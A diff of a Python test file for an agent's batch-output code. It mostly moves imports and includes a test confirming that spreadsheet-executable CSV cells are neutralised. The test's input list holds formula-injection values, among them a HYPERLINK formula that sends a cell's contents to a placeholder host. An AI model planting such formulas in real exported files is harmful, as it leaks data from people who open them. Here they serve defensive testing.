@@ -10,9 +10,9 @@ from typing import Any
 
 import pytest
 
-from agent.batch.items import CSV_COLUMNS, OutputFormat
-from agent.batch.output import OutputFile, work_path
 from agent.errors import BatchError
+from agent.tooling.batch.items import CSV_COLUMNS, OutputFormat
+from agent.tooling.batch.output import OutputFile, work_path
 
 
 def record(item: str, verdict: str = "pass") -> dict[str, Any]:
@@ -120,7 +120,7 @@ def test_outputs_that_cannot_be_resumed_are_refused(tmp_path: pathlib.Path, cont
 
 def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_they_were(
         tmp_path: pathlib.Path) -> None:
-    from agent.batch.output import read_records
+    from agent.tooling.batch.output import read_records
 
     out = tmp_path / "tags.csv"
     hostile = ['=HYPERLINK("http://x.example/?"&A1,"open").png', "+cmd.png", "@SUM(1+1).png", "-2+3.png"]
